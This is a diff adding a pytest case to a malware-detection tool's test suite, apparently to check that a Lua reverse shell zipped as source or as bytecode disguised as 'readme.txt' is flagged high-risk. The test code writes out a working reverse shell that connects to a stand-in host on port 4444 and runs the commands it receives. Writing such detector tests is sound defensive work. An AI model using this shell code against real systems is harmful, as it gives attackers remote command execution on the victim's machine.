@@ -6,11 +6,17 @@ from __future__ import annotations
 
 import base64
 import json
+import shutil
+import subprocess
+import zipfile
 from pathlib import Path
+
+import pytest
 
 from perilune import pipeline
 from perilune.analysis import analyze
 from perilune.decoding import ACTION, SHOWN, Decoder, brief
+from perilune.model.rules import Level
 from tests.build import process, table
 
 HIDDEN = base64.b64encode(
@@ -123,3 +129,19 @@ def test_a_lua_process_carries_what_its_script_does() -> None:
     assert any(one.value == "http://203.0.113.9/a" and found.layers[one.layer].text for one in found.indicators)
     other = decoder.analysis_of("DeviceProcessEvents", {"ProcessCommandLine": "cat /tmp/update.lua"})
     assert other is not None and not [one for one in other.layers if one.kind == "script-file"]
+
+
+@pytest.mark.parametrize("compiled", [False, True])
+def test_lua_in_a_zip_is_judged_by_what_it_does(tmp_path: Path, compiled: bool) -> None:
+    """A reverse shell in plain calls, which no decoding is needed for, as source and as stripped bytecode."""
+    code = 'local c = require("socket").tcp() c:connect("198.51.100.7", 4444)\n'
+    code += 'while true do local p = io.popen(c:receive()) c:send(p:read("*a")) end\n'
+    source, name = tmp_path / "a.lua", "readme.txt" if compiled else "a.lua"
+    source.write_text(code, encoding="utf-8")
+    if compiled:
+        luac = shutil.which("luac5.1") or pytest.skip("luac5.1 is not installed")
+        subprocess.run([luac, "-s", "-o", tmp_path / name, source], check=True)
+    with zipfile.ZipFile(tmp_path / "a.zip", "w") as archive:
+        archive.write(tmp_path / name, name)
+    (case,) = pipeline.hunt([tmp_path / "a.zip"]).cases
+    assert case.level >= Level.HIGH and "T1059.011" in case.techniques
